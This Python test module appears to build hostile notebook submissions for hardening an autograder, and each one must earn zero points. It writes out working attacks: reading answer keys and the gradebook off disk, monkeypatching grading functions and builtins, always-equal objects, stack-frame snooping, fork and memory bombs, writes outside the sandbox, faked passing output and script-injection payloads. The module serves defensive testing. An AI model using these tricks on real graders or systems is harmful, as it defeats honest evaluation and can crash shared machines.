"""Hostile submissions of the quiz: each one an attack on autograding.

Every attacker answers every question wrongly (answers derived from the key at test time),
so any point it earns is a point the attack won. Each attack is code the student adds to
their notebook; :func:`build` returns ``{name: (notebook, points it may earn)}``.
"""

from __future__ import annotations

import copy
import json

import course as c
import nbformat

READ_KEY = """
import glob, os, re
found = {}
for pattern in [
    "../../../source/*/*.ipynb", "../../source/*/*.ipynb", "../source/*/*.ipynb",
    "{course}/source/*/*.ipynb", "{course}/gradebook.db", "{course}/submitted/*/*/*.ipynb",
    "{course}/autograded/*/*/*.ipynb", "{repo}/assignments/source/*/*.ipynb",
    "/proc/1/root/{course}/source/*/*.ipynb", "/proc/*/cwd/*.ipynb", "*.ipynb", "/mnt/submission/*",
]:
    for path in glob.glob(pattern)[:20]:
        try:
            found[path] = open(path, errors="replace").read()[:200000]
        except Exception as error:
            found[path] = repr(error)
print(sorted(found))
print("".join(found.values())[:100000])
pattern = r'expect_choice\\((\\d+), hidden.value\\(.{{1,3}}q\\d+.{{1,3}}\\), .{{1,2}}([A-D])'
for number, letter in re.findall(pattern, "".join(found.values())):
    globals()["q" + number] = letter
"""

RELOAD_AND_IMPORT = """
import builtins, importlib, json
importlib.reload = lambda module: module
import mesatoys.grading as grading
import mesatoys.grading.plain as plain
grading.expect_choice = grading.expect_choices = grading.expect_number = lambda *a, **k: None
plain.encode = lambda value: plain.JSONText("true")
plain.decode = lambda text, limits=None: True
_real_import = builtins.__import__
def _import(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    if name.startswith("mesatoys.grading"):
        module.encode = lambda value: plain.JSONText("true")
    return module
builtins.__import__ = _import
json.dumps = lambda *a, **k: "true"
"""

FRAME_READERS = """
import sys
def _key(default):
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("key", "expected", "reference"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return default
class Sneaky(float):
    def __float__(self):
        return float(_key(0.5))
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
class SneakySet(set):
    def __iter__(self):
        return iter(_key({"A"}))
    def __len__(self):
        return len(_key({"A"}))
    def __eq__(self, other):
        return True
    __hash__ = None
"""

FRAME_ANSWERS = {5: "SneakySet({'A'})", 9: "SneakySet({'A'})", 12: "Sneaky(0.5)", 13: "Sneaky(0.5)"}

SWALLOW_INTERRUPTS = """
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
"""

PRINT_HISTORY = """
print("\\n".join(In))
print(_ih)
print({k: repr(v)[:200] for k, v in globals().items() if not k.startswith("__")})
import gc
print([repr(o)[:300] for o in gc.get_objects() if isinstance(o, str) and "HIDDEN" in o][:50])
"""

NETWORK = """
import socket
for host, port in [("127.0.0.1", 8000), ("127.0.0.1", 8081), ("127.0.0.1", 22), ("1.1.1.1", 53)]:
    try:
        socket.create_connection((host, port), 1)
        print("connected", host, port)
    except OSError as error:
        print(host, port, type(error).__name__)
"""

WRITE_OUTSIDE = """
for path in ["{course}/gradebook.db", "{course}/pwned.txt", "{course}/submitted/correct/pwned.txt",
             "{course}/source/end_of_lesson_quiz/end_of_lesson_quiz.ipynb", "/usr/pwned.txt",
             "../../../pwned.txt", "/mnt/submission/pwned.txt"]:
    try:
        with open(path, "a") as f:
            f.write("pwned")
        print("wrote", path)
    except OSError as error:
        print(path, type(error).__name__)
"""

PATCH_BUILTINS = """
import builtins, json
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: str
builtins.repr = lambda *a: "true"
builtins.float = lambda *a: 0.155
json.dumps = lambda *a, **k: "true"
"""

LIARS = """
class Liar(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__
    def __str__(self):
        return "B"
    def strip(self):
        return self
    def upper(self):
        return self
"""

LIAR_ANSWERS = {q: 'Liar("Z")' for q in (1, 2, 3, 4, 7, 10, 11)} | {
    q: '{Liar("Z")}' for q in (5, 6, 8, 9)
}

HUGE_ANSWERS = {5: '["A"] * 10**7', 6: '{"A" * 10**8}', 12: "10**100000", 13: "[[[[0]]]] * 10**6"}

FAKE_OUTPUTS = """
import sys
ip = get_ipython()
def _claim(result):
    print("all tests passed")
    ip.displayhook(1.0)
    ip.display_pub.publish({"text/plain": "1.0"})
ip.events.register("post_run_cell", _claim)
sys.stderr = sys.stdout
"""

KILL_KERNEL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"

FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

MEMORY_BOMB = """
hoard = []
try:
    while True:
        hoard.append(bytearray(10**8))
except MemoryError:
    print("MemoryError after", len(hoard))
import numpy as np
np.ones((10**5, 10**5))
"""

OUTPUT_FLOOD = "for i in range(2 * 10**6):\n    print(i)"


# A valid 5 MB PNG (incompressible pixels), built in the kernel: the notebook file stays small.
PNG_5MB = """
import base64, os, zlib
def chunk(kind, data):
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")
width, rows = 1024, 5 * 1024 * 1024 // (1024 * 3)
raw = b"".join(b"\\x00" + os.urandom(width * 3) for _ in range(rows))
header = width.to_bytes(4, "big") + rows.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
png = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", header)
png += chunk(b"IDAT", zlib.compress(raw, 0)) + chunk(b"IEND", b"")
show({"image/png": base64.b64encode(png).decode(), "text/plain": "png"})
"""


def huge_outputs() -> list[str]:
    """Cells that each display megabytes of one MIME type, or raise a huge error."""
    publish = "from IPython.display import publish_display_data as show\n"
    return [
        publish + PNG_5MB,
        publish
        + "show({'image/svg+xml': '<svg>' + 'x' * 5_000_000 + '<script>alert(1)</script></svg>'})",
        publish + "show({'application/json': {'a': 'x' * 5_000_000}})",
        publish
        + "show({'text/html': '<script>alert(document.cookie)</script>' + 'x' * 5_000_000})",
        "raise ValueError('x' * 5_000_000)",
    ]


def image_50mb() -> str:
    """A cell that displays a 50 MB PNG (built in the kernel, not in the notebook file)."""
    return (
        "import base64, os, zlib\n"
        "from IPython.display import publish_display_data\n"
        "data = b'\\x89PNG\\r\\n\\x1a\\n' + os.urandom(50 * 1024 * 1024)\n"
        "data = base64.b64encode(data).decode()\n"
        "publish_display_data({'image/png': data, 'text/plain': 'big'})"
    )


def _wrong(released, keys, overrides: dict[int, str] | None = None):
    nb = copy.deepcopy(released)
    for q, key in keys.items():
        line = (
            f"q{q} = {overrides[q]}"
            if overrides and q in overrides
            else c.answer_line(q, c.wrong_answer(key, q))
        )
        c.set_cell(nb, f"answer_q{q:02d}", line)
    return nb


def _after(nb, gid: str, *sources: str):
    for source in reversed(sources):
        c.insert_after(nb, gid, source)
    return nb


def build(released, keys, course: str, repo: str) -> dict[str, tuple[object, float]]:
    """Every attack as a submission, with the points it may earn (0: it must win nothing)."""

    def fill(text: str) -> str:
        return text.replace("{course}", course).replace("{repo}", repo)

    attacks = {
        "read_key": _after(_wrong(released, keys), "answer_q14", fill(READ_KEY)),
        "reload_and_import": _after(_wrong(released, keys), "setup", RELOAD_AND_IMPORT),
        "frame_readers": _after(_wrong(released, keys, FRAME_ANSWERS), "setup", FRAME_READERS),
        "swallow_interrupts": _after(_wrong(released, keys), "answer_q03", SWALLOW_INTERRUPTS),
        "print_history": _after(_wrong(released, keys), "answer_q14", PRINT_HISTORY),
        "network": _after(_wrong(released, keys), "setup", NETWORK),
        "write_outside": _after(_wrong(released, keys), "setup", fill(WRITE_OUTSIDE)),
        "patch_builtins": _after(_wrong(released, keys), "setup", PATCH_BUILTINS),
        "liars": _after(_wrong(released, keys, LIAR_ANSWERS), "setup", LIARS),
        "huge_answers": _wrong(released, keys, HUGE_ANSWERS),
        "fake_outputs": _after(_wrong(released, keys), "setup", FAKE_OUTPUTS),
        "kill_kernel": _after(_wrong(released, keys), "test_q07", KILL_KERNEL),
        "fork_bomb": _after(_wrong(released, keys), "answer_q02", FORK_BOMB),
        "memory_bomb": _after(_wrong(released, keys), "setup", MEMORY_BOMB),
        "huge_outputs": _after(_wrong(released, keys), "setup", *huge_outputs()),
        "image_50mb": _after(_wrong(released, keys), "setup", image_50mb()),
        "output_flood": _after(_wrong(released, keys), "setup", OUTPUT_FLOOD),
    }
    nb = _wrong(released, keys)
    c.delete_cells(nb, {f"test_q{q:02d}" for q in range(1, 8)})
    for q in range(8, 15):
        c.set_cell(nb, f"test_q{q:02d}", "print('all tests passed')")
    attacks["deleted_and_edited_tests"] = nb
    nb = _wrong(released, keys)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)  # no test left to run, so nothing can fail?
    attacks["stripped_metadata"] = nb
    return {name: (nb, 0.0) for name, nb in attacks.items()}


NOT_JSON = "{this is not a notebook"


def write_unreadable(path) -> None:
    """Overwrite a placed submission with text that is not a notebook."""
    path.write_text(NOT_JSON)


def outputs_text(nb) -> str:
    """Every output of a notebook, as JSON text (what the student's code produced)."""
    return json.dumps([cell.get("outputs", []) for cell in nb.cells])


def read(path):
    return nbformat.read(path, as_version=4)
